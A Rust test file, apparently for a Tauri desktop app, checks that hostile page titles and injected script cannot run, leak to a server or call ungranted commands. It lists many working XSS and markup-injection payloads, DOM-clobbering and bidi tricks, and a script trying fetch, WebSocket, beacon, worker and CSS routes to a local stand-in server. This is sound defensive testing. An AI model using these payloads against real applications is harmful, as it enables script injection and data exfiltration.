//! Pages written by somebody who means harm, and script that got into the window anyway:
//! neither runs, neither leaves, neither reaches a server.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use serde_json::{Value, json};

use crate::person;
use crate::process::Outcome;
use crate::stage::Stage;
use crate::story::{Ending, Story};
use crate::window::Window;

/// Checks 53, 55.
pub const HOSTILE_PAGES: Story = Story {
    name: "hostile_pages",
    about: "titles and texts that try to be markup, script or another direction are shown as the text they are",
    sim: &["--workspace", "synthetic:3", "--limit", "none"],
    tell: |stage| Box::pin(hostile_pages(stage)),
};

/// One of each kind that a title, an address or an icon has been known to break out by, or to
/// reach `SERVER` by.
const PAYLOADS: &[&str] = &[
    "<script>window.harmed = 1</script>",
    "<img src=x onerror='window.harmed = 1'>",
    "<img src=SERVER/image.png>",
    "![](SERVER/markdown.png)",
    "<svg onload=window.harmed=1>",
    "<svg><animate onbegin=window.harmed=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1>",
    "<iframe srcdoc='<script>parent.harmed = 1</script>'></iframe>",
    "<a href='javascript:window.harmed=1'>press</a>",
    "<form action=javascript:window.harmed=1><input type=submit autofocus onfocus=window.harmed=1>",
    "<details open ontoggle=window.harmed=1>",
    "<video><source onerror=window.harmed=1>",
    "<body onload=window.harmed=1>",
    "<base href='SERVER/'>",
    "<meta http-equiv=refresh content='0;url=SERVER/refresh'>",
    "<link rel=stylesheet href='SERVER/style.css'>",
    "<object data='SERVER/object'></object>",
    "</title><script>window.harmed = 1</script>",
    "--><script>window.harmed = 1</script>",
    "]]><script>window.harmed = 1</script>",
    "\"><script>window.harmed = 1</script>",
    "' onmouseover='window.harmed = 1",
    "`${window.harmed = 1}`",
    "{{constructor.constructor('window.harmed=1')()}}",
    "javascript:window.harmed=1",
    "<input name=attributes><input name=body>",
    "<form id=__TAURI_INTERNALS__><input name=invoke></form>",
    "&lt;script&gt;window.harmed = 1&lt;/script&gt;",
    "\u{202e}txt.exe\u{202c} reversed",
    "\u{2066}isolated\u{2069} \u{200b}invisible\u{200b}",
    "line one\u{2028}line two",
];

async fn hostile_pages(stage: &Stage) -> Outcome<Ending> {
    let server = Server::start()?;
    let payloads: Vec<String> =
        PAYLOADS.iter().map(|payload| payload.replace("SERVER", &server.address)).collect();
    for (number, payload) in payloads.iter().enumerate() {
        let payload = escaped(payload);
        // Words to find it by: a payload alone means something else in a search box.
        let page = json!({
            "title": format!("{payload} titleword{number}"),
            "markdown": format!("textword{number} {payload}\n- textword{number} {payload}"),
        });
        stage.sim.control("/create", Some(page)).await?;
    }
    let window = stage.open_app().await?;
    person::creates_administrator(&window).await?;
    person::pastes_token(&window, &stage.sim.personal_token).await?;
    person::agrees(&window).await?;
    person::has_read_everything(&window).await?;
    for (number, payload) in payloads.iter().enumerate() {
        let (hit, text) = found_by(&window, number).await?;
        let title = format!("{payload} titleword{number}");
        if dense(&hit.title) != dense(&title) {
            return Err(format!("{title:?} became {:?}", hit.title).into());
        }
        // A passage is cut after some words; what is in it is the text as it is.
        let start: String = dense(payload).chars().take(40).collect();
        if !hit.passages.iter().any(|passage| dense(passage).contains(&start)) {
            return Err(format!("{payload:?} is not in a passage of {hit:?}").into());
        }
        if dense(&text).matches(&dense(payload)).count() != 2 {
            return Err(format!("{payload:?} does not stand twice in the preview {text:?}").into());
        }
        let marks = window.run(MARKUP).await?;
        // The app's own document has its one script and nothing else of these.
        if marks != json!([null, 1]) {
            return Err(format!("{payload:?} became markup: {marks}").into());
        }
        if number == 0 {
            stage.picture(&window, "script").await?;
        }
    }
    if !server.visits().is_empty() {
        return Err(format!("a page reached a server: {:?}", server.visits()).into());
    }
    stage.picture(&window, "titles").await?;
    Ok(Ending::Good)
}

/// The first hit, and the text of its preview.
async fn found_by(window: &Window, number: usize) -> Outcome<(person::Hit, String)> {
    person::searches(window, &format!("titleword{number} textword{number}")).await?;
    let hits = person::hits(window).await?;
    // Words that go on follow below it.
    let hit = hits.into_iter().next().ok_or("not one hit")?;
    let text = person::previews(window, &hit.title).await?;
    Ok((hit, text))
}

/// What came of it, and how much there is of what only markup brings.
const MARKUP: &str = "return [window.harmed ?? null, document.querySelectorAll('script, iframe, object, base, \
    form[action], svg animate, video, math, meta[http-equiv=refresh], .search img, .search a, .search details').length]";

/// The control port reads Markdown; escaped, every sign stands for itself.
fn escaped(text: &str) -> String {
    text.chars().flat_map(|c| if c.is_ascii_punctuation() { vec!['\\', c] } else { vec![c] }).collect()
}

fn dense(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Checks 18, 22, 23.
pub const SCRIPT_IN_THE_WINDOW: Story = Story {
    name: "script_in_the_window",
    about: "script that got into the window runs nothing more, reaches nobody, goes nowhere, and calls nothing",
    sim: &["--workspace", "sample"],
    tell: |stage| Box::pin(script_in_the_window(stage)),
};

/// Tries every way to run more script and to reach `SERVER`.
const ATTEMPTS: &str = r#"
    const server = "SERVER";
    const add = (tag, fields, parent = document.body) =>
        parent.append(Object.assign(document.createElement(tag), fields));
    const attempt = (work) => { try { work(); } catch {} };
    attempt(() => add("script", { textContent: "window.harmed = 'inline'" }));
    attempt(() => add("script", { src: server + "/script.js" }));
    attempt(() => { add("a", { href: "javascript:window.harmed='link'", id: "harm" }); document.getElementById("harm").click(); });
    attempt(() => { const e = document.createElement("button"); e.setAttribute("onclick", "window.harmed = 'attribute'"); document.body.append(e); e.click(); });
    attempt(() => (0, eval)("window.harmed = 'eval'"));
    attempt(() => new Function("window.harmed = 'function'")());
    attempt(() => setTimeout("window.harmed = 'timer'", 0));
    attempt(() => add("img", { src: server + "/image.png" }));
    attempt(() => add("video", { src: server + "/video.mp4", autoplay: true }));
    attempt(() => add("link", { rel: "stylesheet", href: server + "/style.css" }, document.head));
    attempt(() => add("link", { rel: "prefetch", href: server + "/prefetch" }, document.head));
    attempt(() => add("style", { textContent: `@import "${server}/import.css"; @font-face { font-family: x; src: url(${server}/font.woff) } body { font-family: x; background: url(${server}/background) }` }));
    attempt(() => document.body.style.setProperty("background-image", `url(${server}/style-property)`));
    attempt(() => fetch(server + "/fetch").catch(() => {}));
    attempt(() => { const request = new XMLHttpRequest(); request.open("GET", server + "/xhr"); request.send(); });
    attempt(() => new WebSocket(server.replace("http", "ws") + "/socket"));
    attempt(() => new EventSource(server + "/events"));
    attempt(() => navigator.sendBeacon(server + "/beacon", "x"));
    attempt(() => { add("form", { action: server + "/form", method: "post", id: "harm-form" }); document.getElementById("harm-form").submit(); });
    attempt(() => add("iframe", { src: server + "/frame" }));
    attempt(() => add("object", { data: server + "/object" }));
    attempt(() => add("embed", { src: server + "/embed" }));
    attempt(() => new Worker(server + "/worker.js"));
    attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch("${server}/blob-worker")`]))));
    attempt(() => window.open(server + "/open"));
    attempt(() => { add("a", { href: server + "/blank", target: "_blank", id: "harm-blank" }); document.getElementById("harm-blank").click(); });
"#;

async fn script_in_the_window(stage: &Stage) -> Outcome<Ending> {
    let server = Server::start()?;
    let attempts = ATTEMPTS.replace("SERVER", &server.address);
    let window = stage.open_app().await?;
    person::creates_administrator(&window).await?;
    window.run(&attempts).await?;
    window.run(&format!("location.href = '{}/navigated'", server.address)).await?;
    // Later frames and tasks had their turn once the window answers a command again.
    for _ in 0..3 {
        window.two_frames().await?;
    }
    let place = window.run("return [location.href, window.harmed ?? null]").await?;
    if place.get(1) != Some(&Value::Null)
        || !place[0].as_str().unwrap_or_default().starts_with("tauri://localhost")
    {
        return Err(format!("script ran, or the window went elsewhere: {place}").into());
    }
    // For a navigation, WebKit opens a connection before it asks whether it may go, and
    // closes it unused when it may not (SECURITY.md says so). Nothing is sent on it.
    let reached: Vec<_> = server.visits().into_iter().filter(|asked| !asked.is_empty()).collect();
    if !reached.is_empty() {
        return Err(format!("the window reached a server: {reached:?}").into());
    }

    // Commands that nobody granted, by the same door that the app's own take.
    let refused = window
        .run_async(
            "const done = arguments[0];
             const calls = ['plugin:deep-link|get_current', 'plugin:event|listen', 'plugin:window|create',
                            'plugin:webview|create_webview_window', 'plugin:opener|open_url',
                            'plugin:stronghold|initialize', 'plugin:path|resolve_directory', 'no_such_command'];
             Promise.all(calls.map((name) => window.__TAURI_INTERNALS__.invoke(name, {})
                 .then(() => name + ' answered', () => null))).then((answers) => done(answers.filter(Boolean)));",
        )
        .await?;
    if refused != json!([]) {
        return Err(format!("commands that were granted to nobody: {refused}").into());
    }
    // The app still works after all that.
    person::goes_to(&window, "Settings").await?;

    // The same attempts in the same engine without a policy do reach the server.
    let bare = stage.open_bare_webview(&server.address).await?;
    bare.run(&attempts).await?;
    bare.until("the attempts to work where nothing stops them", || async {
        let harmed = bare.run("return window.harmed ?? null").await?;
        Ok((server.visits().len() > 5 && !harmed.is_null()).then_some(()))
    })
    .await?;
    Ok(Ending::Good)
}

/// Keeps what every visitor asks for first, and answers with an empty page.
struct Server {
    address: String,
    visits: Arc<Mutex<Vec<String>>>,
}

impl Server {
    fn start() -> Outcome<Self> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let address = format!("http://{}", listener.local_addr()?);
        let visits = Arc::new(Mutex::new(Vec::new()));
        let kept = Arc::clone(&visits);
        // Ends with the process: it waits for visitors and holds nothing.
        std::thread::spawn(move || {
            for mut visitor in listener.incoming().flatten() {
                let mut asked = [0; 1024];
                let _ = visitor.set_read_timeout(Some(Duration::from_secs(1)));
                let length = visitor.read(&mut asked).unwrap_or_default();
                let line =
                    String::from_utf8_lossy(&asked[..length]).lines().next().unwrap_or_default().to_owned();
                kept.lock().unwrap_or_else(PoisonError::into_inner).push(line);
                let _ = visitor.write_all(
                    b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: 15\r\nconnection: close\r\n\r\n<!doctype html>",
                );
            }
        });
        Ok(Self { address, visits })
    }

    /// The request lines; empty for a connection that asked for nothing.
    fn visits(&self) -> Vec<String> {
        self.visits.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }
}
